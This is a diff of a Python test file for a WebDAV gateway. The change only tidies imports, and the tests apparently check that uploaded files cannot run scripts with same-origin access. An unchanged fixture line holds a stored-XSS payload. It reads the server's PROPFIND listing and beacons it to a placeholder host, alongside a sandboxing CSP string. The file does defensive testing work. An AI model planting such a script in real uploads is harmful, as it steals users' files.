@@ -8,16 +8,12 @@ Content-Disposition: opened in a browser, it ran with same-origin access to the 
 
 from __future__ import annotations
 
-import sys
 from collections.abc import Iterator
-from pathlib import Path
 
 import httpx
 import pytest
-
-sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "webdav"))
-from davtest import GatewayProcess, href, put, signup  # noqa: E402
-from serverproc import NO_SIGNUP_LIMIT, ServerProcess  # noqa: E402
+from support.dav import GatewayProcess, href, put, signup  # noqa: E402
+from support.server import NO_SIGNUP_LIMIT, ServerProcess  # noqa: E402
 
 SCRIPT = b"<script>fetch('/', {method: 'PROPFIND'}).then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
 FILE_CSP = "sandbox; default-src 'none'"
